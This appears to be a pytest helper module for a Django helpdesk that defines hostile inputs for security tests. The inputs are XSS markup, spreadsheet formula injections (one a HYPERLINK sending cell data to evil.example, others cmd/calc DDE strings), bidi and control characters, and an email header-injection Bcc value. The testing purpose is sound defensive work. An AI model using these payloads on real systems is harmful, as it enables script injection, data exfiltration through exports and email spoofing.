"""Hostile input for every surface: the payloads, and the cast and clients that send and read them.

A payload either gets a 4xx (and nothing is written) or is stored and renders inert wherever it
shows: the agent inbox and ticket page, the customer portal, emails, exports, transcripts and reports.
"""

from contextlib import contextmanager

import pytest
from django.core import mail
from django.test import Client

from chat.models import ChatMessage, Conversation
from helpdesk.credits.models import CreditEntry, CreditRequest
from helpdesk.customers.models import Customer
from helpdesk.mailbox.models import OutboundEmail
from helpdesk.tickets.models import Message, Ticket, TicketEvent, TicketRequest
from surveys.models import SurveyResponse
from tests.helpdesk.permissions import sign_in_customer

# Markup that runs when a page trusts it.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "javascript-link": '<a href="javascript:alert(1)">x</a>',
    "markdown-javascript-link": "[x](javascript:alert(1))",
    "attribute-breakout": '"><svg onload=alert(1)>',
}
JS_URL = "javascript:alert(1)"  # a bare value, for fields that may end up in an href
# What a spreadsheet runs as a formula (OWASP's list: = + - @, and a tab or carriage return first).
FORMULAS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
LONE_SURROGATE = "\ud800"
# The same code point as a form sends it: its would-be UTF-8 bytes, which are not valid UTF-8.
LONE_SURROGATE_FORM = "%ED%A0%80"
BIDI = {
    "rlo": "\u202e",  # RIGHT-TO-LEFT OVERRIDE: "gpj.exe" shows as "exe.jpg"
    "lro": "\u202d",
    "rle": "\u202b",
    "rli": "\u2067",
    "fsi": "\u2068",
    "rlm": "\u200f",
}
NUL = "\x00"
C0 = "\x01\x07\x08\x0b\x0c\x1b[2J\x1f\x7f"  # control characters other than tab and line breaks
HEADER_INJECTION = "Name\r\nBcc: victim@example.com"
VICTIM = "victim@example.com"

WATCHED = (
    Ticket,
    Message,
    TicketEvent,
    TicketRequest,
    Customer,
    OutboundEmail,
    ChatMessage,
    Conversation,
    SurveyResponse,
    CreditEntry,
    CreditRequest,
)


def rows_written() -> dict[str, int]:
    counts = {model._meta.label: model.objects.count() for model in WATCHED}
    counts["emails sent"] = len(mail.outbox)
    return counts


@contextmanager
def nothing_written():
    """Assert that the block leaves every watched table, and the outbox, as they were."""
    before = rows_written()
    yield
    assert rows_written() == before


def free_of(text: str, *characters: str) -> bool:
    return not any(character in text for character in characters)


def storable(text: str) -> bool:
    """Whether any database keeps `text` as it is: no NUL (PostgreSQL refuses it) and valid UTF-8."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:  # a lone surrogate
        return False
    return NUL not in text


@pytest.fixture
def emma(client, customer_emma):
    """Emma signed in to the portal on `client`."""
    sign_in_customer(client, customer_emma)
    return client


@pytest.fixture
def sara(agent_sara):
    """Sara, an agent, signed in on a browser of her own."""
    browser = Client()
    browser.force_login(agent_sara)
    return browser


@pytest.fixture
def lina(manager_lina):
    """Lina, a manager, signed in on a browser of her own."""
    browser = Client()
    browser.force_login(manager_lina)
    return browser


@pytest.fixture
def committed(django_capture_on_commit_callbacks):
    """Run a request (or any call) and what it left for after commit: emails, tasks, broadcasts."""

    def run(call, *args, **kwargs):
        with django_capture_on_commit_callbacks(execute=True):
            return call(*args, **kwargs)

    return run
